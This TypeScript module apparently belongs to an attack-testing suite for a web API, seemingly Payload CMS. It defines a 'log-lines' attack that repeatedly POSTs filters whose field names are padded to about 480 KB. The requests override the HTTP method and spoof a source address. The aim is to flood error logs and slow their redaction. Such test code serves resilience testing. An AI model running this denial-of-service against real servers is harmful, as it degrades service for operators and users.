import { repeat } from './repeat.ts'
import { type Attack, from } from './types.ts'

/** A filter by a field that does not exist. The error, and so the log, repeats its name. */
const filterBy = (part: string) => ({
  path: '/api/events',
  method: 'POST',
  headers: {
    'Content-Type': 'application/x-www-form-urlencoded',
    'X-Payload-HTTP-Method-Override': 'GET',
    ...from('203.0.113.6'),
  },
  body: new URLSearchParams({
    where: JSON.stringify({ [part.repeat(480_000 / part.length)]: { equals: 1 } }),
  }).toString(),
})

const filters = ['&password', 'password', '-eyJaaaaaaaa', 'a.a', '://a'].map(filterBy)

export const longLogLines: Attack = {
  name: 'log-lines',
  title: 'Error messages repeat half a megabyte of what slows the redaction of the log',
  run: (context) => repeat(context, 10, (index) => filters[index % filters.length]!),
}
